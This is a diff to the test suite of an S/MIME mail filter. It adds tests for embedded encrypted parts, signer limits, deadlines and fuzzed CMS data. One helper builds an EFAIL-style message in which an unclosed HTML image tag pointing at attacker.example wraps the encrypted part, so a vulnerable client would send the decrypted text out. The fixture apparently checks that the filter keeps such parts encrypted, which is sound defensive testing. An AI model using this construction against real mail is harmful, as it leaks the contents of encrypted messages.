@@ -2,17 +2,22 @@
 
 from __future__ import annotations
 
+import base64
 import hashlib
+import random
 import subprocess
+import time
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
 from ciphermilter import core, mime, smime
 from ciphermilter.config import Limits, Settings
-from ciphermilter.handler import Context
+from ciphermilter.handler import Context, DeadlineExceeded
 from ciphermilter.headers import INFO_PREFIX
 from ciphermilter.plan import apply_plan
+from ciphermilter.smime import EMBEDDED
 from conftest import CORPUS, case_message, corpus_cases
 
 BOB = core.Envelope(recipients=["bob@corp-pub.example"])
@@ -182,6 +187,9 @@ def test_signer_certificate_is_harvested_only_when_allowed(case, tmp_path):
         internal = ["corp-pub.example"]
         run(case, store, Settings(internal_domains=internal, harvest_certificates=False))
         assert store.certificates(email=email) == []
+        external = Context(store=store, settings=Settings(), internal=False)
+        smime.handle(mime.parse(case_message(case)), external)
+        assert store.certificates(email=email) == []
         outcome = run(case, store, Settings(internal_domains=internal))
         verified = info_of(outcome)["Signer-Verified-0-0"] == "True"
         assert bool(store.certificates(email=email)) == verified
@@ -212,14 +220,45 @@ def test_opaque_signature_stays_when_conversion_is_off(case, corpus_store):
         assert mime.parse(entity).params["smime-type"] == "signed-data"
 
 
-def embed_beside_text(message: bytes) -> bytes:
-    """The message's encrypted entity as one part of a multipart/mixed, after a sender-chosen text part."""
+def embed_beside_text(message: bytes, copies: int = 1) -> bytes:
+    """The message's encrypted entity as part(s) of a multipart/mixed, after a sender-chosen text part."""
     entity = mime.parse(message)
     content = b"".join(h.raw + b"\r\n" for h in entity.headers if h.name.lower().startswith("content-"))
     outer = b"".join(h.raw + b"\r\n" for h in entity.headers if not h.name.lower().startswith("content-"))
+    encrypted_part = b"--efail\r\n" + content + b"\r\n" + entity.body + b"\r\n"
     return (outer + b"Content-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n"
             b"--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
-            b"--efail\r\n" + content + b"\r\n" + entity.body + b"\r\n--efail--\r\n")
+            + encrypted_part * copies + b"--efail--\r\n")
+
+
+@pytest.mark.parametrize("case", ENVELOPED_ONLY, ids=ids(ENVELOPED_ONLY))
+def test_side_by_side_parts_are_numbered_in_order(case, corpus_store):
+    message = embed_beside_text(case_message(case), copies=2)
+    kept = info_of(core.process(message, BOB, corpus_store))
+    assert [kept.get(f"SMIME-Not-Decrypted-{level}") for level in (0, 1, 2)] == [EMBEDDED, EMBEDDED, None]
+    outcome = core.process(message, BOB, corpus_store, Settings(decrypt_embedded=True))
+    layers = outcome.report["smime"]["layers"]
+    assert [layer["level"] for layer in layers] == [0, 1]
+    assert [layer["content_sha256"] for layer in layers] == [case["expected_plaintext_sha256"]] * 2
+    parts = mime.parse(apply_plan(message, outcome.plan)).parts
+    assert [sha256(part.raw) for part in parts[1:]] == [case["expected_plaintext_sha256"]] * 2
+
+
+def test_plaintext_holding_the_parent_boundary_stays_encrypted(tmp_path):
+    from ciphermilter.store import KeyStore
+
+    vectors = Path(__file__).parent / "vectors" / "smime"
+    encrypted = (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
+                 b"Content-Transfer-Encoding: base64\r\n\r\n"
+                 + base64.encodebytes((vectors / "env-clash.der").read_bytes()).replace(b"\n", b"\r\n"))
+    message = embed_beside_text(b"From: a@b.example\r\n" + encrypted)
+    with KeyStore.create(tmp_path / "store.db") as store:
+        store.import_file((vectors / "rsa.key.pem").read_bytes() + (vectors / "rsa.cert.pem").read_bytes())
+        outcome = core.process(message, BOB, store, Settings(internal_domains=["corp-pub.example"],
+                                                            decrypt_embedded=True))
+    assert outcome.report["smime"]["layers"][0]["content_sha256"] == sha256((vectors / "clash.txt").read_bytes())
+    assert info_of(outcome)["SMIME-Not-Decrypted-0"] == smime.BOUNDARY_CLASH
+    assert outcome.plan.body is None
 
 
 @pytest.mark.parametrize("case", ENVELOPED_ONLY, ids=ids(ENVELOPED_ONLY))
@@ -229,7 +268,7 @@ def test_encrypted_part_beside_other_parts_stays_encrypted(case, corpus_store):
     info = info_of(outcome)
     assert outcome.plan.body is None
     assert info["SMIME-Encrypted"] == "True"
-    assert info["SMIME-Not-Decrypted-0"] == "encrypted part beside other parts"
+    assert info["SMIME-Not-Decrypted-0"] == EMBEDDED
     assert apply_plan(message, outcome.plan).endswith(mime.parse(message).body)
 
 
@@ -260,6 +299,21 @@ def test_recipient_limit_stops_with_a_reason(case, corpus_store):
 
 
 @pytest.mark.parametrize("case", SIGNED_ONLY, ids=ids(SIGNED_ONLY))
+def test_signer_limit_stops_with_a_reason(case, corpus_store):
+    settings = Settings(limits=replace(Limits(), max_signer_infos=0))
+    outcome = core.process(case_message(case), BOB, corpus_store, settings)
+    assert outcome.plan.body is None
+    assert info_of(outcome) == {"Not-Processed": "more than 0 signers in one layer"}
+
+
+@pytest.mark.parametrize("case", SMIME_CASES, ids=ids(SMIME_CASES))
+def test_a_passed_deadline_stops_the_handler(case, corpus_store):
+    ctx = Context(store=corpus_store, settings=Settings(), deadline=time.monotonic() - 1)
+    with pytest.raises(DeadlineExceeded):
+        smime.handle(mime.parse(case_message(case)), ctx)
+
+
+@pytest.mark.parametrize("case", SIGNED_ONLY, ids=ids(SIGNED_ONLY))
 def test_signer_mismatch_follows_the_from_address(case, corpus_store):
     message = mime.parse(case_message(case))
     signer = case["signer"]["email"].lower()
@@ -268,6 +322,36 @@ def test_signer_mismatch_follows_the_from_address(case, corpus_store):
                                    ("someone@else.example", True)):
         ctx = Context(store=corpus_store, settings=Settings(), from_address=from_address)
         assert smime.handle(message, ctx).info.has("Signer-Mismatch") == mismatch
+
+
+def damaged_copies(message: bytes, seed: int, count: int = 8):
+    """The message with bytes of its CMS structures overwritten or cut, the base64 re-encoded (seeded, repeatable)."""
+    rng = random.Random(seed)
+    cms_parts = [p for p in mime.parse(message).walk() if smime.is_pkcs7_mime(p)
+                 or p.content_type in smime.PKCS7_SIGNATURE]
+    for part in cms_parts:
+        try:
+            der = bytearray(part.decoded_body())
+        except mime.MimeError:  # already broken (the corrupted base64 case): nothing left to damage
+            continue
+        for _ in range(count):
+            damaged = bytearray(der)
+            for _ in range(rng.randint(1, 3)):
+                damaged[rng.randrange(len(damaged))] = rng.randrange(256)
+            if rng.random() < 0.25:
+                damaged = damaged[:rng.randrange(len(damaged))]
+            encoded = bytes(damaged) if part.cte == "binary" else base64.encodebytes(bytes(damaged)).replace(
+                b"\n", b"\r\n")
+            yield message.replace(part.body, encoded)
+
+
+@pytest.mark.parametrize("case", SMIME_CASES, ids=ids(SMIME_CASES))
+def test_damaged_cms_never_crashes_the_handler(case, corpus_store):
+    ctx = Context(store=corpus_store, settings=Settings(decrypt_embedded=True), from_address="a@b.example")
+    for number, message in enumerate(damaged_copies(case_message(case), seed=len(case["id"]))):
+        result = smime.handle(mime.parse(message), ctx)
+        assert result is not None, number
+        assert len(result.info), number  # every damaged layer is still reported
 
 
 @pytest.mark.parametrize(
